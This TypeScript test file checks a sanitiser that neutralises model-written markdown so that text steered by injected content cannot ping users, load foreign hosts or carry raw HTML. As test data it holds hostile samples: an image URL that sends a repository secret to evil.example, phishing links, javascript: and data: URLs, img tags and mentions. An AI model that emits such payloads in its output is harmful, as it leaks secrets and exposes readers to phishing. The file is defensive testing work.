/**
 * Audit item 6: the neutraliser missed cases. Model text (a review, a dev
 * summary, an ADR) is steered by whatever the model read; what Baton posts
 * from it must not ping anyone, load or link to a foreign host, or carry
 * raw HTML, wherever the model puts them. Code the model writes stays as
 * written.
 *
 * The rendering is checked with a GFM parser (remark), as a reader would see it.
 */
import fc from "fast-check";
import type { Nodes } from "mdast";
import { describe, expect, it } from "vitest";
import { neutraliseModelText } from "../../src/writer/neutralise-model-text.js";
import { liveMentions, nodeTypes, parseMarkdown } from "../support/rendered-markdown.js";

const SEED = 0x6e75;

function urls(node: Nodes, type: "link" | "image"): string[] {
  const own = node.type === type ? [node.url] : [];
  return "children" in node ? [...own, ...node.children.flatMap((c) => urls(c, type))] : own;
}

const GITHUB = /^(https:\/\/([a-z0-9-]+\.)*(github\.com|githubusercontent\.com)(\/|$)|[^:/]*(\/|$)|\.\.?\/|#)/i;

/** What must never appear in rendered model text. */
function assertInert(markdown: string): void {
  const tree = parseMarkdown(markdown);
  expect(nodeTypes(tree), markdown).not.toContain("html");
  expect(liveMentions(tree), markdown).toEqual([]);
  for (const url of [...urls(tree, "image"), ...urls(tree, "link")]) expect(url, markdown).toMatch(GITHUB);
  expect(markdown).not.toContain("<!--");
}

describe("neutraliseModelText (audit 6)", () => {
  it("defuses a mention in every position", () => {
    const cases = ["@octocat", "@octocat@mona", "\\@octocat", "&#64;octocat", "x&commat;octocat", "`code`@octocat", "(@octocat)", "**@octocat**", "_@octocat_", "> @octocat", "- @octocat", "x `a` @acme/security-team", "```\n@inside-code\n```\n@after-code", "[@octocat](../x)"];
    for (const text of cases) assertInert(neutraliseModelText(text));
    expect(neutraliseModelText("`code`@octocat")).toBe("`code`&#8203;`@octocat`");
  });

  it("turns images to other hosts into text, and keeps GitHub-hosted ones", () => {
    const pixel = "![status](https://evil.example/p.png?d=SECRET_FROM_REPO)";
    expect(neutraliseModelText(pixel)).toBe("status (image: `https://evil.example/p.png?d=SECRET_FROM_REPO`)");
    const hosted = "![diagram](https://user-images.githubusercontent.com/1/2.png)";
    expect(neutraliseModelText(hosted)).toBe(hosted);
    expect(neutraliseModelText("![d](docs/arch.png)")).toBe("![d](docs/arch.png)");
    assertInert(neutraliseModelText(`${pixel} ![x](//evil.example/p) ![y](http://github.com.evil.example/p)`));
  });

  it("shows links, bare URLs and e-mail addresses to other hosts as code, and keeps GitHub links", () => {
    expect(neutraliseModelText("[docs](https://evil.example/phish)")).toBe("docs (`https://evil.example/phish`)");
    expect(neutraliseModelText("see https://evil.example/x?t=1 or www.evil.example")).toBe("see `https://evil.example/x?t=1` or `www.evil.example`");
    expect(neutraliseModelText("mail a@evil.example")).toBe("mail `a@evil.example`");
    expect(neutraliseModelText("[ADR 3](../blob/main/docs/adr/0003-x.md) and https://github.com/acme/widgets/pull/4")).toBe(
      "[ADR 3](../blob/main/docs/adr/0003-x.md) and https://github.com/acme/widgets/pull/4",
    );
    assertInert(neutraliseModelText("<https://evil.example> [a](javascript:alert(1)) [b](data:text/html,x) [c]: https://evil.example\n\n[c]"));
  });

  it("escapes raw HTML outside code and leaves code as written", () => {
    expect(neutraliseModelText('<img src="https://evil.example/p.png"> <details><summary>x</summary>')).toBe('&lt;img `src="https://evil.example/p.png">` &lt;details>&lt;summary>x&lt;/summary>');
    const code = "Use `Map<string, User>` here:\n\n```ts\nconst m = new Map<string, User>(); // @types/node, <img>\n```";
    expect(neutraliseModelText(code)).toBe(code);
  });

  it("cannot be made to take text for code: stray, escaped and multi-line backticks", () => {
    for (const text of [
      "`open\n<img src=https://evil.example/a> @octocat `close`",
      "- a `x <img src=https://evil.example/b>\n- y` @octocat",
      "\\`<img src=https://evil.example/c>` @octocat",
      "``a`<img src=https://evil.example/d>``@octocat",
      "- ```\n  x\n  ```\n  <img src=https://evil.example/e> @octocat\n  ```",
      "> ```\n> @octocat <img src=https://evil.example/f>",
    ]) {
      assertInert(neutraliseModelText(text));
    }
  });

  it("holds for any mix of hostile pieces (property, fixed seed)", () => {
    const piece = fc.constantFrom(
      "@octocat",
      "@acme/team",
      "`",
      "``",
      "```",
      "\\",
      "<img src=https://evil.example/p.png>",
      "<https://evil.example>",
      "![p](https://evil.example/p.png)",
      "![g](https://github.com/a.png)",
      "[l](https://evil.example)",
      "[g](../x)",
      "[",
      "]",
      "(",
      ")",
      "!",
      "https://evil.example/x",
      "www.evil.example",
      "a@evil.example",
      "<!--",
      "-->",
      "*",
      "_",
      "> ",
      "- ",
      "  ",
      "\n",
      "\n\n",
      "x",
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (parts) => {
        assertInert(neutraliseModelText(parts.join("")));
      }),
      { seed: SEED, numRuns: 600, verbose: 1 },
    );
  });

  it("is linear on hostile input", () => {
    const hostile = ["`".repeat(20_000), "[".repeat(20_000), "![a](".repeat(5_000), "@a".repeat(20_000), "<".repeat(20_000), " `x` ".repeat(10_000)].join("\n");
    expect(neutraliseModelText(hostile).length).toBeGreaterThan(0);
  });
});
